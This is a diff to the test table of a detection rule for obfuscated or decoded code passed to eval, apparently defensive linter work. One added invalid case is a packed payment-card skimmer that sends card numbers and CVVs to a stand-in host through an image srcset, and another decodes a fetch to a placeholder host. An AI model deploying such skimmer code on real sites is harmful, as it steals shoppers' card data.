@@ -1,8 +1,10 @@
 import rule from './decoded-code-eval.js';
 import { ruleTable } from '../test/helpers/rule-table.js';
+import { pack } from '../test/helpers/packer.js';
 
 ruleTable(rule, {
   valid: [
+    { name: 'a packed script that only formats the card field (unpacked, nothing above low)', code: pack("document.getElementById('cc-number').addEventListener('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });") },
     { name: 'a code-split chunk imported by path', code: "import('./chunks/checkout.' + hash + '.js').then(function (m) { m.init(); });" },
     { name: 'bind shim building a wrapper from parameter names (function-bind)', code: "function joiny(arr, j) { var s = ''; for (var i = 0; i < arr.length; i++) { s += arr[i]; if (i + 1 < arr.length) s += j; } return s; } var boundArgs = ['$0', '$1']; var bound = Function('binder', 'return function (' + joiny(boundArgs, ',') + '){ return binder.apply(this,arguments); }')(binder);" },
     { name: 'webpack eval-devtool module with an escaped character in its text', code: "eval(\"{__webpack_require__.r(__webpack_exports__);\\nvar label = 'd\\u00e9j\\u00e0 vu';\\n}\");" },
@@ -21,6 +23,7 @@ ruleTable(rule, {
     { name: 'javascript:void(0) link', code: "menu.insertAdjacentHTML('beforeend', '<li><a href=\"javascript:void(0)\" data-id=\"' + id + '\">' + label + '</a></li>');" },
   ],
   invalid: [
+    { name: "Dean Edwards packer: eval(function(p,a,c,k,e,d){…}('…',62,n,'…'.split('|'),0,{})) around a card grabber sending by srcset", code: pack("function val(n) { var e = document.querySelector('[name=\"' + n + '\"]'); return e ? e.value : ''; } document.addEventListener('mousedown', function () { var img = new Image(); img.srcset = 'https:' + '//varien-cdn-static.example/m/' + btoa(val('payment[cc_number]') + ':' + val('payment[cc_cid]')) + '.jpg 1x'; }, true);"), messageIds: ['decoded'], severity: 'low' },
     { name: 'a module imported from a base64 data: URL', code: "if (/checkout/.test(location.pathname)) import('data:text/javascript;base64,' + 'ZmV0Y2goJ2h0dHBzOi8veC5leGFtcGxlLycp').catch(function () {});", messageIds: ['decoded'] },
     { name: 'Function reached as the constructor of a function, atob aliased, chunks reversed', code: "var _p = ['KTE=', 'YWxlcnQo']; var _r = function () { return _p.slice().reverse().join(''); }; var _g = window['a' + 'to' + 'b']; var _F = (function () {}).constructor; _F(_g(_r()))();", messageIds: ['decoded'] },
     { name: "''.constructor.constructor (Function) on decoded code", code: "''.constructor.constructor(atob('YWxlcnQoMSk='))();", messageIds: ['decoded'] },
